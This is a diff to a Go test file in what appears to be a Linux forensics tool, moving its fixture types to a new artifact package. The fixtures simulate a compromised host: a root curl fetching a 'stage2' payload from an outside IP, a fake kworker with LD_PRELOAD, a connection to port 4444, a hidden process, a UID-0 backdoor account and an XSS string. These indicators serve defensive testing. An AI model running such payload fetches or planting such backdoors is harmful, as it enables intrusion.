@@ -13,6 +13,7 @@ import (
 
 	"golang.org/x/crypto/ssh"
 
+	"github.com/hozen-dfir/hozen/artifact"
 	"github.com/hozen-dfir/hozen/bundle"
 	"github.com/hozen-dfir/hozen/collect"
 	"github.com/hozen-dfir/hozen/collect/logins"
@@ -48,51 +49,51 @@ func bss(ss ...string) []manifest.BString {
 // is not UTF-8.
 var trickyArgv = bss("/tmp/.x/kworker", "-c", `a,b "quoted" 'single'`, "line1\nline2", "<script>alert(1)</script>", "bad\xffbyte")
 
-func fixtureProcesses() collect.ProcessTable {
+func fixtureProcesses() artifact.ProcessTable {
 	bt := bootTime
-	ps := []collect.Process{
+	ps := []artifact.Process{
 		{PID: 1, PPID: 0, Name: "systemd", UID: u32(0), User: "root", StartTime: &bt, Argv: bss("/sbin/init", "splash"), Exe: "/usr/lib/systemd/systemd",
-			ExeHash: &collect.ExeHash{SHA256: "1111111111111111111111111111111111111111111111111111111111111111", Size: 100, Hashed: 100}, Threads: 1, Outcome: "ok"},
+			ExeHash: &artifact.ExeHash{SHA256: "1111111111111111111111111111111111111111111111111111111111111111", Size: 100, Hashed: 100}, Threads: 1, Outcome: "ok"},
 		{PID: 2, PPID: 0, Name: "kthreadd", UID: u32(0), User: "root", StartTime: &bt, KernelThread: true, Outcome: "ok"},
 		{PID: 400, PPID: 1, Name: "sshd", UID: u32(0), User: "root", StartTime: at(-72 * time.Hour), Argv: bss("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
-			Exe: "/usr/sbin/sshd", ExeHash: &collect.ExeHash{SHA256: "2222222222222222222222222222222222222222222222222222222222222222"}, Outcome: "ok"},
+			Exe: "/usr/sbin/sshd", ExeHash: &artifact.ExeHash{SHA256: "2222222222222222222222222222222222222222222222222222222222222222"}, Outcome: "ok"},
 		{PID: 1234, PPID: 400, Name: "sshd", UID: u32(1000), User: "alice", StartTime: at(-2 * time.Hour), Argv: bss("sshd: alice@pts/0"), Exe: "/usr/sbin/sshd", Outcome: "ok"},
 		{PID: 1240, PPID: 1234, Name: "bash", UID: u32(1000), EUID: u32(0), User: "alice", EUser: "root", StartTime: at(-2*time.Hour + time.Second), Argv: bss("-bash"), Exe: "/usr/bin/bash", Outcome: "ok"},
 		{PID: 1300, PPID: 1240, Name: "kworker", UID: u32(0), User: "root", StartTime: at(-90 * time.Minute), Argv: trickyArgv, Exe: "/tmp/.x/kworker", ExeDeleted: true,
-			ExeHash: &collect.ExeHash{SHA256: "dededededededededededededededededededededededededededededededede", Size: 4096, Hashed: 4096}, TracerPID: 1240, Outcome: "ok",
+			ExeHash: &artifact.ExeHash{SHA256: "dededededededededededededededededededededededededededededededede", Size: 4096, Hashed: 4096}, TracerPID: 1240, Outcome: "ok",
 			// What the report skips unread (procEntry): present here so the
 			// goldens show it changes nothing.
-			FDs:        []collect.FD{{FD: 0, Target: "/dev/null"}, {FD: 3, Target: "socket:[5002]", SocketInode: 5002}, {FD: 4, Target: "/tmp/.x/\xff\"x\"<y>"}},
+			FDs:        []artifact.FD{{FD: 0, Target: "/dev/null"}, {FD: 3, Target: "socket:[5002]", SocketInode: 5002}, {FD: 4, Target: "/tmp/.x/\xff\"x\"<y>"}},
 			Environ:    bss("PATH=/usr/bin", "LD_PRELOAD=/tmp/.x/hook.so", "odd=\xfe{\"[,"),
 			TIDs:       []int{1300, 1302},
 			Namespaces: map[string]uint64{"net": 4026531840, "pid": 4026531836}},
 		{PID: 1301, PPID: 1300, Name: "curl", UID: u32(0), User: "root", StartTime: at(-89 * time.Minute), Argv: bss("curl", "-s", "http://198.51.100.66/stage2?a=1&b=<2>"), Exe: "/usr/bin/curl", Outcome: "ok"},
 		{PID: 6666, PPID: 1, Name: "x\xfe", UID: u32(0), User: "root", StartTime: at(-30 * time.Minute), Argv: bss("[kswapd0]"), Hidden: true, Outcome: "partial", Errors: []string{"exe: permission denied"}},
 	}
-	return collect.ProcessTable{CollectedAt: t0, Source: "/proc", BootTime: &bt, ClockTicks: 100, Count: len(ps), Processes: ps}
+	return artifact.ProcessTable{CollectedAt: t0, Source: "/proc", BootTime: &bt, ClockTicks: 100, Count: len(ps), Processes: ps}
 }
 
-func fixtureSockets() collect.SocketTable {
-	ss := []collect.Socket{
+func fixtureSockets() artifact.SocketTable {
+	ss := []artifact.Socket{
 		{Proto: "tcp", State: "ESTABLISHED", LocalAddr: "10.0.0.5", LocalPort: 22, RemoteAddr: "203.0.113.7", RemotePort: 51234, UID: u32(0), User: "root", Inode: 5001,
-			OwnerStatus: collect.OwnedBy, Owners: []collect.SocketOwner{{PID: 1234, Name: "sshd", FD: 4}}},
+			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 1234, Name: "sshd", FD: 4}}},
 		{Proto: "tcp", State: "LISTEN", LocalAddr: "0.0.0.0", LocalPort: 22, RemoteAddr: "0.0.0.0", Listening: true, UID: u32(0), User: "root", Inode: 5000,
-			OwnerStatus: collect.OwnedBy, Owners: []collect.SocketOwner{{PID: 400, Name: "sshd", FD: 3}}},
+			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 400, Name: "sshd", FD: 3}}},
 		{Proto: "tcp", State: "ESTABLISHED", LocalAddr: "10.0.0.5", LocalPort: 43210, RemoteAddr: "198.51.100.66", RemotePort: 4444, UID: u32(0), User: "root", Inode: 5002,
-			OwnerStatus: collect.OwnedBy, Owners: []collect.SocketOwner{{PID: 1300, Name: "kworker", FD: 3}}},
-		{Proto: "tcp6", State: "LISTEN", LocalAddr: "::", LocalPort: 31337, RemoteAddr: "::", Listening: true, UID: u32(0), User: "root", Inode: 5003, OwnerStatus: collect.OwnerNone},
-		{Proto: "udp", State: "", LocalAddr: "0.0.0.0", LocalPort: 68, RemoteAddr: "0.0.0.0", Listening: true, Inode: 5004, OwnerStatus: collect.OwnerSkipped},
+			OwnerStatus: artifact.OwnedBy, Owners: []artifact.SocketOwner{{PID: 1300, Name: "kworker", FD: 3}}},
+		{Proto: "tcp6", State: "LISTEN", LocalAddr: "::", LocalPort: 31337, RemoteAddr: "::", Listening: true, UID: u32(0), User: "root", Inode: 5003, OwnerStatus: artifact.OwnerNone},
+		{Proto: "udp", State: "", LocalAddr: "0.0.0.0", LocalPort: 68, RemoteAddr: "0.0.0.0", Listening: true, Inode: 5004, OwnerStatus: artifact.OwnerSkipped},
 	}
-	return collect.SocketTable{CollectedAt: t0, Source: "/proc/net", Count: len(ss), Unowned: 1, Sockets: ss}
+	return artifact.SocketTable{CollectedAt: t0, Source: "/proc/net", Count: len(ss), Unowned: 1, Sockets: ss}
 }
 
-func loginRec(typ int16, pid int32, line, user, host string, t time.Time, addr string) logins.Record {
-	return logins.Record{Type: typ, TypeName: logins.TypeName(typ), PID: pid, Line: manifest.BString(line), User: manifest.BString(user),
+func loginRec(typ int16, pid int32, line, user, host string, t time.Time, addr string) artifact.LoginRecord {
+	return artifact.LoginRecord{Type: typ, TypeName: logins.TypeName(typ), PID: pid, Line: manifest.BString(line), User: manifest.BString(user),
 		Host: manifest.BString(host), Time: t, TimeSec: uint32(t.Unix()), Address: addr}
 }
 
-func loginFiles(src string, recs ...logins.Record) collect.LoginFiles {
-	return collect.LoginFiles{Layout: collect.LoginLayout, Files: []collect.LoginFile{{Source: src, Outcome: "ok", Records: recs}}}
+func loginFiles(src string, recs ...artifact.LoginRecord) artifact.LoginFiles {
+	return artifact.LoginFiles{Layout: artifact.LoginLayout, Files: []artifact.LoginFile{{Source: src, Outcome: "ok", Records: recs}}}
 }
 
 type fixtureArt struct {
@@ -122,18 +123,18 @@ func fileArt(path, collector string, data string, mode string, uid int64, mt tim
 func fixtureArtifacts(t testing.TB) []fixtureArt {
 	bt := bootTime
 	tz := 3600
-	sys := collect.SystemInfo{Clock: collect.Clock{HostUTC: t0, ReferenceTime: at(-95 * time.Second), SkewSeconds: f64(95)}, Hostname: "web-01", OS: "linux",
-		PrettyName: "Debian GNU/Linux 12 (bookworm)", Kernel: collect.Kernel{Release: "6.1.0-18-amd64", Version: "#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1", CommandLine: "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet", Tainted: func() *uint64 { v := uint64(4096); return &v }()},
+	sys := artifact.SystemInfo{Clock: artifact.Clock{HostUTC: t0, ReferenceTime: at(-95 * time.Second), SkewSeconds: f64(95)}, Hostname: "web-01", OS: "linux",
+		PrettyName: "Debian GNU/Linux 12 (bookworm)", Kernel: artifact.Kernel{Release: "6.1.0-18-amd64", Version: "#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1", CommandLine: "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet", Tainted: func() *uint64 { v := uint64(4096); return &v }()},
 		MachineID: "0123456789abcdef0123456789abcdef", BootID: "b0b0b0b0-0000-4000-8000-000000000001", BootTime: &bt, UptimeSeconds: f64(1134000),
-		TimeZone: collect.TimeZone{Name: "Europe/Berlin", UTCOffsetSeconds: &tz}}
-	hidden := collect.HiddenPIDs{CollectedAt: t0, Method: []string{"stat"}, PIDMax: 4194304, StatProbedTo: 262144, Listed: 7,
-		Hidden: []collect.HiddenPID{{PID: 6666, Tgid: 6666, Kind: "process", Name: "x\xfe", SeenBy: []string{"stat"}, ProcEntry: true}}, Duration: "1.2s"}
-	ifaces := collect.InterfaceTable{CollectedAt: t0, Source: []string{"/sys/class/net"}, Interfaces: []collect.Interface{
+		TimeZone: artifact.TimeZone{Name: "Europe/Berlin", UTCOffsetSeconds: &tz}}
+	hidden := artifact.HiddenPIDs{CollectedAt: t0, Method: []string{"stat"}, PIDMax: 4194304, StatProbedTo: 262144, Listed: 7,
+		Hidden: []artifact.HiddenPID{{PID: 6666, Tgid: 6666, Kind: "process", Name: "x\xfe", SeenBy: []string{"stat"}, ProcEntry: true}}, Duration: "1.2s"}
+	ifaces := artifact.InterfaceTable{CollectedAt: t0, Source: []string{"/sys/class/net"}, Interfaces: []artifact.Interface{
 		{Index: 1, Name: "lo", MTU: 65536, OperState: "unknown", Addresses: []string{"127.0.0.1/8", "::1/128"}},
 		{Index: 2, Name: "eth0", MAC: "52:54:00:12:34:56", MTU: 1500, OperState: "up", Addresses: []string{"10.0.0.5/24"}},
 	}}
-	routes := collect.RouteTable{CollectedAt: t0, IPv4: []collect.Route{{Iface: "eth0", Destination: "0.0.0.0/0", Gateway: "10.0.0.1", Metric: 100}, {Iface: "eth0", Destination: "10.0.0.0/24"}}}
-	neigh := collect.NeighbourTable{CollectedAt: t0, Source: "/proc/net/arp", Neighbours: []collect.Neighbour{{IP: "10.0.0.1", MAC: "52:54:00:aa:bb:cc", Device: "eth0", State: "REACHABLE"}}}
+	routes := artifact.RouteTable{CollectedAt: t0, IPv4: []artifact.Route{{Iface: "eth0", Destination: "0.0.0.0/0", Gateway: "10.0.0.1", Metric: 100}, {Iface: "eth0", Destination: "10.0.0.0/24"}}}
+	neigh := artifact.NeighbourTable{CollectedAt: t0, Source: "/proc/net/arp", Neighbours: []artifact.Neighbour{{IP: "10.0.0.1", MAC: "52:54:00:aa:bb:cc", Device: "eth0", State: "REACHABLE"}}}
 	alice := t0.Add(-2 * time.Hour)
 	sessions := loginFiles("/run/utmp",
 		loginRec(logins.BootTime, 0, "~", "reboot", "6.1.0-18-amd64", bootTime, ""),
@@ -147,18 +148,18 @@ func fixtureArtifacts(t testing.TB) []fixtureArt {
 	failed := loginFiles("/var/log/btmp",
 		loginRec(logins.LoginProcess, 9001, "ssh:notty", "admin", "198.51.100.66", t0.Add(-3*time.Hour), "198.51.100.66"),
 		loginRec(logins.LoginProcess, 9002, "ssh:notty", "oracle", "198.51.100.66", t0.Add(-3*time.Hour+2*time.Second), "198.51.100.66"))
-	lastlog := collect.LastlogFile{Source: "/var/log/lastlog", Size: 292 * 1003, Outcome: "ok", Entries: []collect.LastlogEntry{
-		{Lastlog: logins.Lastlog{UID: 1000, User: "alice", Time: alice, Line: "pts/0", Host: "203.0.113.7"}},
-		{Lastlog: logins.Lastlog{UID: 1002, Time: t0.Add(-100 * time.Minute), Line: "pts/1", Host: "198.51.100.66"}, NoAccount: true},
+	lastlog := artifact.LastlogFile{Source: "/var/log/lastlog", Size: 292 * 1003, Outcome: "ok", Entries: []artifact.LastlogEntry{
+		{Lastlog: artifact.Lastlog{UID: 1000, User: "alice", Time: alice, Line: "pts/0", Host: "203.0.113.7"}},
+		{Lastlog: artifact.Lastlog{UID: 1002, Time: t0.Add(-100 * time.Minute), Line: "pts/1", Host: "198.51.100.66"}, NoAccount: true},
 	}}
-	accounts := collect.Accounts{Users: []collect.Account{{Name: "root", UID: 0, GID: 0, Home: "/root", Shell: "/bin/bash", Line: 1}, {Name: "toor", UID: 0, GID: 0, Home: "/", Shell: "/bin/sh", Line: 30}},
+	accounts := artifact.Accounts{Users: []artifact.Account{{Name: "root", UID: 0, GID: 0, Home: "/root", Shell: "/bin/bash", Line: 1}, {Name: "toor", UID: 0, GID: 0, Home: "/", Shell: "/bin/sh", Line: 30}},
 		UID0: bss("root", "toor")}
 	arts := []fixtureArt{
 		jsonArt(t, "volatile/network/sockets.json", "network", fixtureSockets()),
 		jsonArt(t, "volatile/network/interfaces.json", "network", ifaces),
 		jsonArt(t, "volatile/network/routes.json", "network", routes),
 		jsonArt(t, "volatile/network/neighbours.json", "network", neigh),
-		jsonArt(t, "volatile/findings/unowned_sockets.json", "network", collect.UnownedSockets{CollectedAt: t0, Method: "fd scan", Sockets: []collect.Socket{fixtureSockets().Sockets[3]}}),
+		jsonArt(t, "volatile/findings/unowned_sockets.json", "network", artifact.UnownedSockets{CollectedAt: t0, Method: "fd scan", Sockets: []artifact.Socket{fixtureSockets().Sockets[3]}}),
 		jsonArt(t, "volatile/processes/processes.json", "processes", fixtureProcesses()),
 		jsonArt(t, "volatile/findings/hidden_pids.json", "processes", hidden),
 		jsonArt(t, "volatile/users/accounts.json", "users", accounts),
